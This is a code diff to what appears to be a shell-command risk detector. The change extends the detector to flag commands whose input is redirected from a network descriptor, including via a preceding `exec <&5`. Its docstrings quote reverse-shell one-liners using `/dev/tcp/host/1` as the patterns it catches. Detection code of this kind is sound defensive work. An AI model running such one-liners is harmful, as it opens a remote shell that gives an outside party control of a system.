@@ -60,8 +60,10 @@ class Takeover:
         return None
 
     def _copied(self, command: Command) -> Risk | None:
-        """`exec 5<>/dev/tcp/host/1; sh <&5`."""
-        if self.source and any(redirection.operator == "<&" for redirection in command.redirects):
+        """`exec 5<>/dev/tcp/host/1; sh <&5`, or `exec <&5; sh`."""
+        if self.source and (
+            _copies(command) or any(_copies(each.command) for each in self.flow.findings if _stays(each))
+        ):
             return Category.Destroys, f"`{command.program}` may take its commands from `{self.source}`"
         return None
 
@@ -75,6 +77,16 @@ class Takeover:
         if interactive and target is not None and _connects(target):
             return Category.Destroys, f"`{command.program}` is given to `{target.text}`"
         return None
+
+
+def _copies(command: Command) -> bool:
+    """Whether the input of a command is a copy of another descriptor."""
+    return any(redirection.operator == "<&" for redirection in command.redirects)
+
+
+def _stays(finding: Finding) -> bool:
+    """Whether the redirects of a command hold for those behind it: `exec <&5`."""
+    return not finding.command.argv or finding.command.program == "exec"
 
 
 def _network(flow: Flow) -> str:
